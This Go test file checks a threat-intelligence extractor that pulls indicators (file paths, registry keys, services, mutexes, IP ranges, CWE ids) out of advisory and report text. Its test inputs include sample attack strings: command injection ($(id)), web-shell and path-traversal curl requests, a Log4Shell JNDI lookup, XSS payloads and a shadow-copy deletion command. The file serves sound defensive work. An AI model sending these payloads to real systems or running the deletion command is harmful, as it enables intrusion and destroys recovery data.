package extract_test

import (
	"strings"
	"testing"

	"github.com/portent-cti/portent/internal/intel"
)

// said is what a document of a genre is to yield.
type said struct {
	genre      intel.Genre
	text, want string // in order, with blanks between, what is set aside last and in brackets
}

func (c said) check(t *testing.T) {
	t.Helper()
	doc := intel.Document{Genre: c.genre, Text: c.text}
	got := live(scanner(t), doc)
	for _, o := range scanner(t).Observations(doc) {
		if o.Suppressed != "" && o.Entity.Kind.Class() == intel.IOA {
			got = append(got, "["+o.Entity.String()+"]")
		}
	}
	if got := strings.Join(got, " "); got != c.want {
		t.Errorf("%q:\n\tgot  %q\n\twant %q", c.text, got, c.want)
	}
}

func TestPartsOfAFlawAreToldApart(t *testing.T) {
	for _, c := range []said{
		{intel.Advisory, "with the input %2e%2e%2fadmin in the file /cgi-bin/vt_login.cgi leads to disclosure.", "file:/cgi-bin/vt_login.cgi input:%2e%2e%2fadmin"},
		{intel.Advisory, "This affects some processing in the library lib/auth.so of the component Login.", "file:lib/auth.so library:lib/auth.so"},
		{intel.Advisory, "This affects some processing in the library lib/auth.php of the component Login.", "file:lib/auth.php"},
	} {
		c.check(t)
	}
}

func TestAFileIsNotedOnceWhateverSaysThatItIsOne(t *testing.T) {
	text := "Affected is some processing of the file /admin/edit_pet.php of it."
	if got := scanner(t).Observations(intel.Document{Genre: intel.Advisory, Text: text}); len(got) != 1 {
		t.Errorf("got %+v", got)
	}
}

func TestPathsOfWindowsAreWhole(t *testing.T) {
	for _, c := range []said{
		{intel.Report, `drops C:\Users\Public\evil.exe.`, `filename:evil.exe [file:C:\Users\Public\evil.exe]`},
		{intel.Report, `drops %APPDATA%\Microsoft\wsus.dll, too`, `filename:wsus.dll [file:%APPDATA%\Microsoft\wsus.dll]`},
		{intel.Report, `drops C:\Users\Public\Documents\evil tool.exe and runs it`, `filename:evil tool.exe [file:C:\Users\Public\Documents\evil tool.exe]`},
		{intel.Report, `drops "C:\ProgramData\my new evil tool.exe" and runs it`, `filename:my new evil tool.exe [file:C:\ProgramData\my new evil tool.exe]`},
		{intel.Report, `copies C:\ProgramData\payload to evil.exe`, `filename:evil.exe`},
		{intel.Report, `starts C:\Program Files (x86)\Common Files\helper.exe`, `filename:helper.exe [file:C:\Program Files (x86)\Common Files\helper.exe]`},
		{intel.Report, `"C:\\Users\\Public\\evil.exe"`, `filename:evil.exe [file:C:\Users\Public\evil.exe]`},
		{intel.Report, `runs \\10.1.2.3\C$\Windows\temp\a.bat`, `filename:a.bat [file:\\10.1.2.3\C$\Windows\temp\a.bat]`},
		{intel.Report, `writes C:\Windows\System32\Tasks\Foo at night`, `scheduled-task:Foo`},
		{intel.Report, `sets HKLM\SYSTEM\CurrentControlSet\Services\My Evil Svc\Security now`, `registry-key:HKLM\SYSTEM\CurrentControlSet\Services\My Evil Svc\Security`},
		{intel.Report, `sets "HKLM\SOFTWARE\Run\My evil value" now`, `registry-key:HKLM\SOFTWARE\Run\My evil value`},
		{intel.Report, `sets HKLM\SOFTWARE\Run HKCU\SOFTWARE\Run now`, `registry-key:HKCU\SOFTWARE\Run registry-key:HKLM\SOFTWARE\Run`},
	} {
		c.check(t)
	}
}

func TestRequestsOfExploitsAreRead(t *testing.T) {
	for _, c := range []said{
		{intel.Social, "POST /cgi-bin/login.cgi HTTP/1.1\r\nHost: x\r\nContent-Type: a/b\r\n\r\nuser=admin&pass=$(id)\r\n", "argument:pass argument:user file:/cgi-bin/login.cgi input:$(id)"},
		{intel.Social, `curl "http://10.0.0.1/shell?cmd=id"`, "argument:cmd file:/shell"},
		{intel.Social, `curl -k 'https://TARGET:8443/vpn/../vpns/cfg/smb.conf'`, "file:/vpn/../vpns/cfg/smb.conf"},
		{intel.Social, `curl -k https://<target>/a.php -d "id=1&x=../../b"`, "argument:id argument:x file:/a.php input:../../b"},
		{intel.Social, `path: {{BaseURL}}/manager/html?user=admin`, "argument:user file:/manager/html"},
		{intel.Social, `r = requests.post("http://target/api/login.php", json=x)`, "file:/api/login.php"},
		{intel.Social, "POST /api HTTP/1.1\nHost: x\n\n{\"user\":\"a\",\"run\":{\"cmd\":\"$(id)\",\"n\":3},\"files\":[\"../../etc/x\", \"b\"]} {\"other\":1}\n",
			"argument:cmd argument:files argument:n argument:run argument:user file:/api input:$(id) input:../../etc/x"},
		{intel.Social, `curl https://TARGET/b -d '{"path":"../../../c"}'`, "argument:path file:/b input:../../../c"},
		{intel.Social, "POST /api HTTP/1.1\nHost: x\n\n{\"broken\":\"$(id)", "argument:broken file:/api"},
		{intel.Social, `send ${jndi:ldap://192.0.2.9:1389/a} as name`, "input:${jndi:ldap://192.0.2.9:1389/a} ipv4:192.0.2.9 port:1389/tcp url:ldap://192.0.2.9:1389/a"},
		{intel.Social, `send <script>alert(1)</script> via q`, "input:<script>alert(1)</script>"},
		{intel.Social, `send <img src=x onerror=alert(1)> via q`, "input:<img src=x onerror=alert(1)>"},
		{intel.Social, `the page has <script src=x></script> in it`, ""},
	} {
		c.check(t)
	}
}

func TestWhatIntrudersInstallIsRead(t *testing.T) {
	for _, c := range []said{
		{intel.Report, `a service named "WinUpdSvc" starts`, "service:WinUpdSvc"},
		{intel.Report, `the service "Cloud Drive" is used`, ""},
		{intel.Report, `the scheduled task "EvilTask" runs`, "scheduled-task:EvilTask"},
		{intel.Report, `the task "clean the house" waits`, ""},
		{intel.Report, `the command "vssadmin delete shadows /all" runs`, "command:vssadmin delete shadows /all"},
		{intel.Report, `the backdoor knows the command "upload file"`, ""},
		{intel.Report, `CreateMutexA(NULL, FALSE, "evil_mtx_77");`, "mutex:evil_mtx_77"},
	} {
		c.check(t)
	}
}

func TestWhatStandsBesideAValueBelongsToIt(t *testing.T) {
	for _, c := range []said{
		{intel.Social, `../../etc/passwd in the "filename" query parameter`, "argument:filename input:../../etc/passwd"},
		{intel.Report, `adds a key to ~/.ssh/authorized_keys then`, "file:~/.ssh/authorized_keys"},
		{intel.Report, `imphash a41d8cd98f00b204e9800998ecf8427e`, ""},
		{intel.Report, `from "weird name"@evil.example now`, `email:"weird name"@evil.example`},
		{intel.Report, `in 146.70.87.10-20 and in 146.70.88.*`, "cidr:146.70.87.10/31 cidr:146.70.87.12/30 cidr:146.70.87.16/30 cidr:146.70.88.0/24 ipv4:146.70.87.10 ipv4:146.70.87.20"},
		{intel.Report, `in 146.70.87.10-.20 and in 146.70.87.12-.15`, "cidr:146.70.87.10/31 cidr:146.70.87.12/30 cidr:146.70.87.16/30 ipv4:146.70.87.10 ipv4:146.70.87.20"},
		{intel.Report, `CWE 89, CWE 079, CWE 89a and ACWE 22`, "weakness:CWE-89"},
	} {
		c.check(t)
	}
}
